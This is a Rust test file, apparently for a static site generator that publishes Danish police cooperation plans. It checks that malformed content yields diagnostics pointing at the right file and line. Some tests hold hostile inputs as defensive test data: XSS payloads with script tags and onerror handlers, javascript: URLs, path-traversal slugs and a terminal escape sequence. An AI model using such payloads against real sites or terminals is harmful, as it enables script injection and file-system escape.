//! The catalogue of bad inputs: every way a publisher's content can be wrong, each with
//! the message it must produce and the file, line (and column) it must point at. Plus
//! the inputs that look odd but must just work (BOM, CRLF), the ones that must never
//! reach the page unescaped (`<script>`), and `planspor check` as a user runs it.

mod common;

use common::*;
use planspor::{Diagnostic, Diagnostics};
use std::path::{Path, PathBuf};

// ---------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------

/// A small site written from scratch: one kreds with one kommune, a plan for each, three
/// registry entries; no `themes/` (the built-in standard theme is used).
fn mini(name: &str) -> TempDir {
    let d = TempDir::new(name);
    let r = d.path();
    put(
        r,
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://example.dk/\"\n",
    );
    put(
        r,
        "content/_index.md",
        "+++\ntitle = \"Forside\"\n+++\nHej.\n",
    );
    put(
        r,
        "content/indsatsomraader/indbrud.md",
        "+++\ntitle = \"Indbrud\"\n+++\n",
    );
    put(
        r,
        "content/indsatsomraader/tryghed-paa-nettet.md",
        "+++\ntitle = \"Tryghed og sikkerhed på nettet\"\n+++\n",
    );
    put(
        r,
        "content/indsatsomraader/vold-i-naere-relationer.md",
        "+++\ntitle = \"Vold i nære relationer\"\n+++\n",
    );
    put(
        r,
        "content/kredse/nord/_index.md",
        "+++\nname = \"Nordpolitiet\"\n+++\n",
    );
    put(
        r,
        "content/kredse/nord/kommuner/by/_index.md",
        "+++\nname = \"By\"\n+++\n",
    );
    put(r, KREDS_PLAN, KREDS_PLAN_TEXT);
    put(r, BY_PLAN, BY_PLAN_TEXT);
    d
}

const KREDS_PLAN: &str = "content/kredse/nord/samarbejdsplan-2025.md";
const KREDS_PLAN_TEXT: &str = "+++
kind = \"samarbejdsplan\"
year = 2025
title = \"Samarbejdsplan 2025\"
+++

## 1. Indsatsområder {indsatser}

### Indbrud

Indbrud skal ned.

### Vold i nære relationer

Mere hjælp.
";

const BY_PLAN: &str = "content/kredse/nord/kommuner/by/handleplan-2025.md";
const BY_PLAN_TEXT: &str = "+++
kind = \"handleplan\"
year = 2025
title = \"Handleplan 2025\"

[source]
title = \"HANDLEPLAN 2025\"
publisher = \"Lokalrådet\"

[[meetings]]
date = 2025-03-06
place = \"Rådhuset\"
+++

Indledning.

## 2. Indsatser {indsatser}

### Indbrud {indsats=indbrud}

Tekst om indbrud.

### Tryghed og sikkerhed på nettet

Tekst om nettet.
";

fn put(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn read(root: &Path, rel: &str) -> String {
    std::fs::read_to_string(root.join(rel)).unwrap()
}

/// Replaces the first `from` in a file; the test fails if it is not there.
fn edit(root: &Path, rel: &str, from: &str, to: &str) {
    let s = read(root, rel);
    assert!(s.contains(from), "{rel} lacks {from:?}");
    std::fs::write(root.join(rel), s.replacen(from, to, 1)).unwrap();
}

/// 1-based line of the first line of `rel` containing `needle`.
fn line_of(root: &Path, rel: &str, needle: &str) -> usize {
    read(root, rel)
        .lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("{rel} has no line with {needle:?}"))
        + 1
}

/// 1-based character column of `needle` on its line.
fn col_of(root: &Path, rel: &str, needle: &str) -> usize {
    let s = read(root, rel);
    let l = s.lines().find(|l| l.contains(needle)).unwrap();
    l[..l.find(needle).unwrap()].chars().count() + 1
}

/// Builds `root` into `root/public`, expecting failure; returns the diagnostics.
fn build_fails(root: &Path) -> Diagnostics {
    match build_to(root, &root.join("public"), None) {
        Ok(r) => panic!(
            "build succeeded but should have failed; warnings:\n{}",
            r.warnings.render(false)
        ),
        Err(d) => {
            assert!(
                d.has_errors(),
                "failed without an error:\n{}",
                d.render(false)
            );
            d
        }
    }
}

/// Builds `root` into `root/public`, expecting success.
fn build_ok(root: &Path) -> PathBuf {
    let out = root.join("public");
    if let Err(d) = build_to(root, &out, None) {
        panic!("build failed:\n{}", d.render(false));
    }
    out
}

/// The first diagnostic whose message contains `needle` (the test fails, showing all of
/// them, if there is none).
fn find<'a>(diags: &'a Diagnostics, needle: &str) -> &'a Diagnostic {
    diags
        .iter()
        .find(|d| d.message.contains(needle))
        .unwrap_or_else(|| panic!("no diagnostic with {needle:?} in:\n{}", diags.render(false)))
}

/// Asserts a diagnostic's file and line, and that its rendered form shows the location
/// the rustc way (`file:line:col`).
#[track_caller]
fn assert_at(d: &Diagnostic, file: &str, line: usize) {
    assert_eq!(d.file, Path::new(file), "file of: {d}");
    assert_eq!(d.line, line, "line of: {d}");
    let mut one = Diagnostics::new();
    one.push(d.clone());
    let shown = one.render(false);
    assert!(
        shown.contains(&format!("{file}:{line}:{}", d.column)),
        "rendered without its location:\n{shown}"
    );
}

#[track_caller]
fn assert_at_col(d: &Diagnostic, file: &str, line: usize, column: usize) {
    assert_at(d, file, line);
    assert_eq!(d.column, column, "column of: {d}");
}

// ---------------------------------------------------------------------------------
// Front matter
// ---------------------------------------------------------------------------------

#[test]
fn malformed_toml_is_located() {
    let d = mini("malformed-toml");
    edit(
        d.path(),
        BY_PLAN,
        "title = \"Handleplan 2025\"",
        "title = \"Handleplan 2025",
    );
    let diags = build_fails(d.path());
    let e = diags
        .iter()
        .find(|e| e.file == Path::new(BY_PLAN))
        .expect("an error in the plan");
    assert_at(e, BY_PLAN, 4);
    assert_eq!(e.message, "text in quotes without its closing quote");
}

#[test]
fn missing_front_matter_fences() {
    let d = mini("missing-fences");
    put(
        d.path(),
        BY_PLAN,
        "kind = \"handleplan\"\nyear = 2025\n\nTekst.\n",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "+++");
    assert_at(e, BY_PLAN, 1);

    // Opened but never closed.
    let d = mini("unclosed-fences");
    edit(d.path(), BY_PLAN, "title = \"Handleplan 2025\"\n\n", "");
    let text = read(d.path(), BY_PLAN);
    let closing = text.match_indices("+++").nth(1).unwrap().0;
    put(
        d.path(),
        BY_PLAN,
        &format!("{}{}", &text[..closing], &text[closing + 4..]),
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "front matter is not closed");
    assert_at(e, BY_PLAN, 1);
}

#[test]
fn unknown_key_suggests_the_known_one() {
    let d = mini("unknown-key");
    edit(d.path(), BY_PLAN, "year = 2025", "yaer = 2025");
    let diags = build_fails(d.path());
    let e = find(&diags, "unknown key `yaer`");
    assert_at_col(e, BY_PLAN, 3, 1);
    assert!(
        e.help.as_deref().unwrap_or("").contains("`year`"),
        "no suggestion: {e}"
    );
    let shown = diags.render(false);
    assert!(
        shown.contains("yaer = 2025"),
        "source line not shown:\n{shown}"
    );
    assert!(shown.contains("^^^^"), "no marker under the key:\n{shown}");
}

#[test]
fn unknown_key_in_a_table_is_located_in_the_table() {
    let d = mini("unknown-nested-key");
    edit(
        d.path(),
        BY_PLAN,
        "place = \"Rådhuset\"",
        "plase = \"Rådhuset\"",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "`plase`");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "plase"));
    assert!(e.help.as_deref().unwrap_or("").contains("`place`"), "{e}");
}

#[test]
fn missing_keys_are_named() {
    let d = mini("missing-year");
    edit(d.path(), BY_PLAN, "year = 2025\n", "");
    let diags = build_fails(d.path());
    let e = find(&diags, "`year`");
    assert_eq!(e.file, Path::new(BY_PLAN));
    assert!(e.message.contains("missing"), "{e}");

    let d = mini("missing-title");
    edit(d.path(), BY_PLAN, "title = \"Handleplan 2025\"\n", "");
    let diags = build_fails(d.path());
    let e = find(&diags, "`title`");
    assert_eq!(e.file, Path::new(BY_PLAN));
    assert!(e.message.contains("missing"), "{e}");

    let d = mini("missing-name");
    put(
        d.path(),
        "content/kredse/nord/kommuner/by/_index.md",
        "+++\nwebsite = \"https://by.dk\"\n+++\n",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "`name`");
    assert_eq!(
        e.file,
        Path::new("content/kredse/nord/kommuner/by/_index.md")
    );
}

#[test]
fn wrong_types_are_explained() {
    let d = mini("wrong-type");
    edit(d.path(), BY_PLAN, "year = 2025", "year = \"2025\"");
    let diags = build_fails(d.path());
    let e = diags
        .iter()
        .find(|e| e.file == Path::new(BY_PLAN))
        .expect("an error in the plan");
    assert_at(e, BY_PLAN, 3);
    assert!(e.message.contains("expected a whole number"), "{e}");
    assert!(
        e.help.as_deref().unwrap_or("").contains("without quotes"),
        "{e}"
    );

    let d = mini("wrong-date");
    edit(
        d.path(),
        BY_PLAN,
        "date = 2025-03-06",
        "date = \"6. marts 2025\"",
    );
    let diags = build_fails(d.path());
    let e = diags
        .iter()
        .find(|e| e.file == Path::new(BY_PLAN))
        .expect("an error in the plan");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "6. marts"));

    let d = mini("date-with-time");
    edit(
        d.path(),
        BY_PLAN,
        "date = 2025-03-06",
        "date = 2025-03-06T10:00:00",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "must be a date");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "date = "));
}

#[test]
fn impossible_and_disagreeing_years() {
    let d = mini("impossible-year");
    std::fs::remove_file(d.path().join(BY_PLAN)).unwrap();
    let rel = "content/kredse/nord/kommuner/by/handleplan-1850.md";
    put(
        d.path(),
        rel,
        &BY_PLAN_TEXT.replace("year = 2025", "year = 1850"),
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "impossible year 1850");
    assert_eq!(e.file, Path::new(rel));

    let d = mini("year-disagrees");
    edit(d.path(), BY_PLAN, "year = 2025", "year = 2024");
    let diags = build_fails(d.path());
    let e = find(&diags, "file name says 2025");
    assert_at_col(e, BY_PLAN, 3, 1);
}

#[test]
fn two_plans_for_one_issuer_and_year() {
    let d = mini("two-plans-one-year");
    let rel = "content/kredse/nord/kommuner/by/handleplan-2024-2025.md";
    put(
        d.path(),
        rel,
        &BY_PLAN_TEXT.replace("year = 2025", "years = [2024, 2025]"),
    );
    let diags = build_fails(d.path());
    let e = diags
        .iter()
        .find(|e| e.is_error() && e.message.contains("2025") && e.message.contains("plan"))
        .unwrap_or_else(|| panic!("no overlap error:\n{}", diags.render(false)));
    assert!(
        e.file == Path::new(rel) || e.file == Path::new(BY_PLAN),
        "{e}"
    );
}

#[test]
fn duplicate_kommune_slugs_across_kredse() {
    let d = mini("duplicate-slug");
    put(
        d.path(),
        "content/kredse/syd/_index.md",
        "+++\nname = \"Sydpolitiet\"\n+++\n",
    );
    put(
        d.path(),
        "content/kredse/syd/kommuner/by/_index.md",
        "+++\nname = \"By\"\n+++\n",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "kommune `by` also exists");
    assert!(e.file.starts_with("content/kredse/"), "{e}");
}

#[test]
fn unknown_indsatsomraade_suggests_the_closest_id() {
    let d = mini("unknown-id");
    edit(d.path(), BY_PLAN, "{indsats=indbrud}", "{indsats=indbrudd}");
    let diags = build_fails(d.path());
    let e = find(&diags, "unknown indsatsområde `indbrudd`");
    assert_at_col(
        e,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, "indbrudd"),
        col_of(d.path(), BY_PLAN, "indbrudd"),
    );
    assert!(
        e.help.as_deref().unwrap_or("").contains("`indbrud`"),
        "no suggestion: {e}"
    );
}

#[test]
fn a_binding_given_twice_is_an_error_not_the_last_one_winning() {
    let d = mini("attr-twice");
    let both = "{indsats=indbrud indsats=tryghed-paa-nettet}";
    edit(d.path(), BY_PLAN, "{indsats=indbrud}", both);
    let diags = build_fails(d.path());
    let e = find(&diags, "`indsats` is given twice");
    assert_at_col(
        e,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, both),
        col_of(d.path(), BY_PLAN, "indsats=tryghed"),
    );
}

#[test]
fn attributes_that_cannot_be_read_fail_instead_of_being_published() {
    let d = mini("attr-unreadable");
    edit(
        d.path(),
        BY_PLAN,
        "{indsats=indbrud}",
        "{indsats = indbrud}",
    );
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "cannot read the heading attributes `{indsats = indbrud}`",
    );
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "{indsats = "));
}

#[test]
fn a_typo_in_a_binding_is_one_error_without_contradicting_warnings() {
    let d = mini("typo-binding");
    edit(
        d.path(),
        BY_PLAN,
        "### Indbrud {indsats=indbrud}",
        "### Indbrud {indsats=indbrudd}",
    );
    let diags = planspor::check::check(d.path());
    find(&diags, "unknown indsatsområde `indbrudd`");
    let shown = diags.render(false);
    // Not also "binds no indsatsområde" (it tried to) nor "but it is bound to" (nothing).
    assert!(!shown.contains("binds no indsatsområde"), "{shown}");
    assert!(!shown.contains("but it is bound to"), "{shown}");
}

#[test]
fn a_broken_registry_file_is_the_one_error_not_every_plan_binding_it() {
    let d = mini("broken-registry");
    put(
        d.path(),
        "content/indsatsomraader/indbrud.md",
        "+++\ntitle = \"Indbrud\"\ntema = \"Tryghed\"\n+++\n",
    );
    let diags = build_fails(d.path());
    assert_at(
        find(&diags, "unknown key `tema`"),
        "content/indsatsomraader/indbrud.md",
        3,
    );
    assert_eq!(diags.error_count(), 1, "{}", diags.render(false));
}

#[test]
fn the_closest_registered_ids_are_named_once() {
    // A title and an alias of one id both come close, another id between them.
    let d = mini("closest-once");
    put(
        d.path(),
        "content/indsatsomraader/saarbare-borgere.md",
        "+++\ntitle = \"Bedre samarbejde om indsatsen over for sårbare borgere\"\naliases = [\"Bedre samarbejds om indsatsen overfor sårbare borgere\"]\n+++\n",
    );
    put(
        d.path(),
        "content/indsatsomraader/svindel-mod-aeldre.md",
        "+++\ntitle = \"Svindel mod ældre\"\n+++\n",
    );
    edit(
        d.path(),
        BY_PLAN,
        "### Tryghed og sikkerhed på nettet",
        "### 2.7. Samarbejde med frivillige",
    );
    let diags = planspor::check::check(d.path());
    let w = find(&diags, "binds no indsatsområde");
    let help = w.help.as_deref().unwrap_or("");
    assert!(help.contains("`svindel-mod-aeldre`"), "{help}");
    assert_eq!(help.matches("`saarbare-borgere`").count(), 1, "{help}");
}

#[test]
fn a_broken_kreds_file_hides_no_other_error_and_makes_no_entry_look_unused() {
    let d = mini("broken-kreds");
    put(
        d.path(),
        "content/kredse/nord/_index.md",
        "+++\nname = \"Nordpolitiet\"\nshortname = \"Nord\"\nwebsite = 1\n+++\n",
    );
    edit(d.path(), BY_PLAN, "{indsats=indbrud}", "{indsats=indbrudd}");
    let diags = planspor::check::check(d.path());
    find(&diags, "unknown key `shortname`");
    // The plans under the broken kreds are still checked: every error in one run.
    find(&diags, "unknown indsatsområde `indbrudd`");
    let shown = diags.render(false);
    assert!(!shown.contains("in no plan (bound"), "{shown}");
}

#[test]
fn the_front_page_counts_in_danish_singulars_and_as_the_index_does() {
    let d = mini("front-counts");
    let out = build_ok(d.path());
    let front = page(&out, "");
    assert!(
        front.contains("2 planer · 1 politikreds · 1 kommune · 3 indsatsområder"),
        "{front}"
    );
    assert!(page(&out, "indsatsomraader/").contains("Alle 3 indsatsområder"));
}

#[test]
fn unknown_heading_attribute_suggests() {
    let d = mini("unknown-attr");
    edit(d.path(), BY_PLAN, "{indsats=indbrud}", "{indsat=indbrud}");
    let diags = build_fails(d.path());
    let e = find(&diags, "unknown heading attribute `indsat`");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "{indsat="));
}

#[test]
fn empty_files() {
    let d = mini("empty-plan");
    put(d.path(), BY_PLAN, "");
    let diags = build_fails(d.path());
    let e = find(&diags, "+++");
    assert_at(e, BY_PLAN, 1);

    let d = mini("empty-kommune");
    put(d.path(), "content/kredse/nord/kommuner/by/_index.md", "");
    let diags = build_fails(d.path());
    assert!(diags
        .iter()
        .any(|e| e.file == Path::new("content/kredse/nord/kommuner/by/_index.md")));
}

#[test]
fn bom_and_crlf_just_work() {
    let plain = mini("plain");
    let out_plain = build_ok(plain.path());

    let d = mini("bom-crlf");
    for rel in [BY_PLAN, KREDS_PLAN, "content/kredse/nord/_index.md"] {
        let s = read(d.path(), rel);
        put(
            d.path(),
            rel,
            &format!("\u{feff}{}", s.replace('\n', "\r\n")),
        );
    }
    let out = build_ok(d.path());
    assert_eq!(
        read_tree(&out),
        read_tree(&out_plain),
        "a BOM and CRLF line endings changed the output"
    );
}

#[test]
fn invalid_utf8_is_located() {
    let d = mini("invalid-utf8");
    let line = line_of(d.path(), BY_PLAN, "Tekst om indbrud");
    let mut bytes = read(d.path(), BY_PLAN).into_bytes();
    let at = bytes.windows(5).position(|w| w == b"Tekst").unwrap();
    bytes[at] = 0xff;
    std::fs::write(d.path().join(BY_PLAN), bytes).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "not valid UTF-8");
    assert_at(e, BY_PLAN, line);
}

#[test]
fn a_fifty_megabyte_file_is_refused_quickly() {
    let d = mini("huge");
    let mut text = BY_PLAN_TEXT.to_string();
    let para = "Lorem ipsum dolor sit amet, indbrud og tryghed i nærmiljøet. ".repeat(16) + "\n\n";
    while text.len() < 50 * 1024 * 1024 {
        text.push_str(&para);
    }
    put(d.path(), BY_PLAN, &text);
    let t = std::time::Instant::now();
    let diags = build_fails(d.path());
    let e = find(&diags, "too large");
    assert_eq!(e.file, Path::new(BY_PLAN));
    // Refused from its size, not after parsing 50 MB (generous bound for debug builds).
    assert!(t.elapsed().as_secs() < 20, "took {:?}", t.elapsed());
}

#[test]
fn unreadable_file() {
    let d = mini("unreadable");
    let kommune = "content/kredse/nord/kommuner/by/_index.md";
    // Root reads any file, so a dangling symbolic link stands in for an unreadable one;
    // as another user, also a file without read permission.
    std::fs::remove_file(d.path().join(kommune)).unwrap();
    std::os::unix::fs::symlink("/nonexistent/planspor", d.path().join(kommune)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "cannot read");
    assert_eq!(e.file, Path::new(kommune));

    if unsafe { libc::geteuid() } != 0 {
        use std::os::unix::fs::PermissionsExt;
        let d = mini("no-permission");
        let p = d.path().join(BY_PLAN);
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o000)).unwrap();
        let diags = build_fails(d.path());
        let e = find(&diags, "cannot read");
        assert_eq!(e.file, Path::new(BY_PLAN));
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
}

#[test]
fn symlink_loop_is_reported_not_followed_forever() {
    let d = mini("symlink-loop");
    std::os::unix::fs::symlink("..", d.path().join("content/kredse/nord/kommuner/loop")).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "symbolic link loop");
    assert!(
        e.file.starts_with("content/kredse/nord/kommuner/loop"),
        "{e}"
    );
}

#[test]
fn slugs_cannot_leave_the_output_folder() {
    // Folder and file names become URL paths; anything that is not a plain slug
    // (`..`, encoded dots, backslashes, upper case) is refused before it reaches a path.
    for bad in ["%2e%2e", "..by", "a\\b", "By", "by by"] {
        let d = mini("bad-slug");
        std::fs::rename(
            d.path().join("content/kredse/nord/kommuner/by"),
            d.path().join("content/kredse/nord/kommuner").join(bad),
        )
        .unwrap();
        let result = build_to(d.path(), &d.path().join("public"), None);
        if bad.starts_with('.') {
            // A hidden folder is ignored like any dot file: its plan is not published,
            // and nothing is written anywhere but public/.
            result.expect("a hidden folder is ignored, not an error");
            let tree = read_tree(&d.path().join("public"));
            assert!(tree.keys().all(|p| !p.contains("..")), "{:?}", tree.keys());
            assert!(!tree.contains_key("kommuner/by/handleplan/2025/index.html"));
            let mut beside: Vec<String> = std::fs::read_dir(d.path())
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().to_string())
                .collect();
            beside.sort();
            // The state folder the next build brings up to date (see src/write/staging.rs).
            assert_eq!(
                beside,
                [".public.planspor", "content", "planspor.toml", "public"],
                "something was written beside public/"
            );
            continue;
        }
        let diags = match result {
            Ok(_) => panic!("folder {bad:?} was accepted"),
            Err(d) => d,
        };
        let e = find(&diags, "is not a slug");
        assert!(e.message.contains(bad), "{e}");
    }
    // A theme name is a folder name too.
    let d = mini("theme-escape");
    put(
        d.path(),
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://example.dk/\"\ntheme = \"../../etc\"\n",
    );
    let diags = build_fails(d.path());
    let e = diags.iter().find(|e| e.is_error()).unwrap();
    assert_eq!(e.file, Path::new("planspor.toml"), "{e}");
}

#[test]
fn template_syntax_error_names_template_and_line() {
    let d = mini("template-error");
    put(
        d.path(),
        "templates/plan.html",
        "{% extends \"base.html\" %}\n{% block main %}\n<h1>{{ plan.title }</h1>\n{% endblock %}\n",
    );
    let diags = build_fails(d.path());
    let e = diags.iter().find(|e| e.is_error()).unwrap();
    assert_eq!(e.file, Path::new("templates/plan.html"), "{e}");
    assert_eq!(e.line, 3, "{e}");
}

#[test]
fn raw_html_in_markdown_and_front_matter_is_escaped() {
    let d = mini("script");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om indbrud.",
        "Tekst om indbrud.\n\n<script>alert('md')</script>\n\n<img src=x onerror=alert(1)>",
    );
    edit(
        d.path(),
        BY_PLAN,
        "title = \"Handleplan 2025\"",
        "title = \"Handleplan 2025 <script>alert('fm')</script>\"\nsummary = \"<b onclick=alert(2)>x</b>\"",
    );
    let out = build_ok(d.path());
    // Data files (JSON, CSV) carry the text as data; every page must show it as text.
    for (path, bytes) in read_tree(&out) {
        if !(path.ends_with(".html") || path.ends_with(".xml")) {
            continue;
        }
        let html = String::from_utf8_lossy(&bytes);
        for bad in ["<script>alert", "<img src=x", "<b onclick"] {
            assert!(!html.contains(bad), "{path} contains {bad}");
        }
    }
    let plan = page(&out, "kommuner/by/handleplan/2025/");
    assert!(
        plan.contains("&lt;script&gt;alert("),
        "markdown script not shown as text"
    );
    assert!(
        plan.contains("&lt;img src=x"),
        "markdown img not shown as text"
    );
}

#[test]
fn javascript_urls_are_refused() {
    let d = mini("js-url");
    edit(
        d.path(),
        BY_PLAN,
        "publisher = \"Lokalrådet\"",
        "publisher = \"Lokalrådet\"\nurl = \"javascript:alert(1)\"",
    );
    put(
        d.path(),
        "content/kredse/nord/_index.md",
        "+++\nname = \"Nordpolitiet\"\nwebsite = \"data:text/html,hi\"\n+++\n",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "javascript:alert(1)");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "javascript:"));
    let e = find(&diags, "data:text/html");
    assert_at(e, "content/kredse/nord/_index.md", 3);
}

#[test]
fn all_errors_are_collected_errors_first_with_a_count() {
    let d = mini("many");
    edit(d.path(), BY_PLAN, "year = 2025", "yaer = 2025");
    edit(
        d.path(),
        KREDS_PLAN,
        "### Indbrud",
        "### Indbrud {indsats=indbrudd}",
    );
    put(
        d.path(),
        "content/kredse/nord/kommuner/by/noter.txt",
        "not content",
    );
    let diags = build_fails(d.path());
    assert!(diags.error_count() >= 2, "{}", diags.render(false));
    let shown = diags.render(false);
    let first_warning = shown.find("warning").unwrap_or(usize::MAX);
    let last_error = shown
        .rfind("error[")
        .or_else(|| shown.rfind("error:"))
        .unwrap();
    assert!(
        diags.warning_count() == 0 || last_error < first_warning,
        "errors must come before warnings:\n{shown}"
    );
    assert!(
        shown.contains(&format!("{} error", diags.error_count())),
        "no count line:\n{shown}"
    );
}

// ---------------------------------------------------------------------------------
// planspor check
// ---------------------------------------------------------------------------------

#[test]
fn default_content_checks_clean() {
    let diags = planspor::check::check(&repo());
    assert_eq!(diags.error_count(), 0, "{}", diags.render(false));
    // National indsatsområder the five plans describe only as standing work, fora or
    // appendices, never among their own (Østjylland's Del 1, Midt- og Vestjylland's
    // bilag 6, Nordjylland's bilag 1, Hjørring's chapter 2) are in use: their pages name
    // those sections. (Midt- og Vestjylland's contents list says "SAMARBEJDSPLAN 2024":
    // its source note says so, and no warning is due.)
    assert_eq!(diags.warning_count(), 0, "{}", diags.render(false));
}

/// A registry entry no plan binds, names or writes about is reported.
#[test]
fn check_reports_a_registry_entry_no_plan_uses() {
    let d = mini("unused-registry");
    std::fs::write(
        d.path().join("content/indsatsomraader/cykeltyveri.md"),
        "+++\ntitle = \"Cykeltyveri\"\n+++\n",
    )
    .unwrap();
    let diags = planspor::check::check(d.path());
    let w = find(&diags, "in no plan (bound");
    assert!(w.message.contains("cykeltyveri"), "{}", w.message);
    assert!(!w.is_error());
}

#[test]
fn check_finds_broken_markdown_links() {
    let d = mini("broken-link");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet. Se [planen](/kommuner/by/handleplan-2019/).",
    );
    let diags = planspor::check::check(d.path());
    let e = find(&diags, "broken link");
    assert!(e.is_error());
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "handleplan-2019"));
}

/// Under a sub-path base URL (as `init` writes it) a broken root-relative link in a plan
/// is still found in the plan, by `check` and by `build`, not blamed on the templates.
#[test]
fn broken_markdown_links_are_located_under_a_sub_path_too() {
    let d = mini("broken-link-sub-path");
    put(
        d.path(),
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://example.dk/samarbejdsplaner/\"\n",
    );
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet. Se [planen](/kommuner/by/handleplan-2019/).",
    );
    let line = line_of(d.path(), BY_PLAN, "handleplan-2019");
    let diags = planspor::check::check(d.path());
    let e = find(&diags, "broken link");
    assert_at(e, BY_PLAN, line);
    let diags = build_fails(d.path());
    let e = find(&diags, "broken link");
    assert_at(e, BY_PLAN, line);
}

/// A diagnostic never prints the control characters of the text it quotes (an escape
/// sequence in someone else's pull request could rewrite a terminal or a CI log): they
/// are shown as `?`, and the error still points at its place.
#[test]
fn diagnostics_never_print_control_characters() {
    let d = mini("control-chars-shown");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet.\n\n### Noget {indsats=ukendt\u{1b}[2J\u{7}}\n\nTekst.",
    );
    let diags = build_fails(d.path());
    let e = diags
        .iter()
        .find(|e| e.message.contains('\u{1b}'))
        .expect("an error quoting the text");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "### Noget"));
    let shown = diags.render(false);
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
    assert!(shown.contains("ukendt?[2J?"), "{shown}");
}

/// Facts a reader would take as true but no plan can have: an approval years after the
/// plan, a meeting ten years off, a kommune in the wrong district or none at all. Each is
/// a warning at its place.
#[test]
fn check_warns_about_impossible_dates_and_kommuner() {
    let d = TempDir::new("impossible-facts");
    copy_site(&repo(), d.path());
    let plan = "content/kredse/oestjylland/samarbejdsplan-2024.md";
    edit(
        d.path(),
        plan,
        "approved = 2024-03-04",
        "approved = 2031-03-04",
    );
    let k = "content/kredse/oestjylland/kommuner";
    put(
        d.path(),
        &format!("{k}/skanderborg/_index.md"),
        "+++\nname = \"Skanderborg\"\n+++\n",
    );
    put(
        d.path(),
        &format!("{k}/tranebjerg/_index.md"),
        "+++\nname = \"Tranebjerg\"\n+++\n",
    );
    put(
        d.path(),
        "content/kredse/nordjylland/kommuner/hjoerning/_index.md",
        "+++\nname = \"Hjørning\"\n+++\n",
    );
    let diags = planspor::check::check(d.path());
    let e = find(&diags, "approved 2031-03-04 for a plan for 2024");
    assert!(!e.is_error());
    assert_at(e, plan, line_of(d.path(), plan, "approved = 2031"));
    let e = find(
        &diags,
        "Skanderborg Kommune belongs to Sydøstjyllands Politi",
    );
    assert_eq!(e.file, Path::new(&format!("{k}/skanderborg/_index.md")));
    find(&diags, "`tranebjerg` is not one of the 98 Danish kommuner");
    // A typo is read as the district's own kommune before another district's as near.
    let e = find(&diags, "`hjoerning` is not one of the 98 Danish kommuner");
    let help = e.help.as_deref().unwrap_or_default();
    assert!(help.contains("did you mean `hjoerring`?"), "{help}");
    assert_eq!(diags.error_count(), 0, "{}", diags.render(false));
}

#[test]
fn check_warns_about_unbound_headings_and_near_duplicates() {
    let d = mini("lints");
    edit(
        d.path(),
        KREDS_PLAN,
        "### Vold i nære relationer",
        "### Vold i nære relationer\n\n### Tryghed og sikkerhed på nettet.",
    );
    edit(
        d.path(),
        BY_PLAN,
        "### Tryghed og sikkerhed på nettet",
        "### Trygheden på nettet",
    );
    put(
        d.path(),
        "content/indsatsomraader/indbrud-i-private-hjem.md",
        "+++\ntitle = \"Indbrud\u{a0}\"\n+++\n",
    );
    let diags = planspor::check::check(d.path());
    let e = find(&diags, "binds no indsatsområde");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "### Trygheden"));
    assert!(
        e.help
            .as_deref()
            .unwrap_or("")
            .contains("tryghed-paa-nettet"),
        "no suggestion: {e}"
    );
    find(&diags, "near-identical titles");
}

#[test]
fn check_warns_when_a_title_names_another_year() {
    let d = mini("title-year");
    edit(
        d.path(),
        BY_PLAN,
        "title = \"HANDLEPLAN 2025\"",
        "title = \"HANDLEPLAN 2024\"",
    );
    let diags = planspor::check::check(d.path());
    let w = find(&diags, "names 2024");
    assert!(!w.is_error());
    assert_at(w, BY_PLAN, line_of(d.path(), BY_PLAN, "HANDLEPLAN 2024"));
    // Said in the source note, as the help asks: an explained inconsistency, no warning.
    assert!(w
        .help
        .as_deref()
        .unwrap_or("")
        .contains("[source].note (quoting the title)"));
    // A note that merely names the year (an approval date) does not explain the title.
    edit(
        d.path(),
        BY_PLAN,
        "title = \"HANDLEPLAN 2024\"",
        "title = \"HANDLEPLAN 2024\"\nnote = \"Vedtaget i december 2024.\"",
    );
    let diags = planspor::check::check(d.path());
    assert!(diags.iter().any(|d| d.message.contains("names 2024")));
    edit(
        d.path(),
        BY_PLAN,
        "Vedtaget i december 2024.",
        "Forsiden siger »Handleplan 2024«; planen gælder 2025.",
    );
    let diags = planspor::check::check(d.path());
    assert!(
        !diags.iter().any(|d| d.message.contains("names 2024")),
        "{}",
        diags.render(false)
    );
}

#[test]
fn check_writes_nothing() {
    let d = mini("check-writes-nothing");
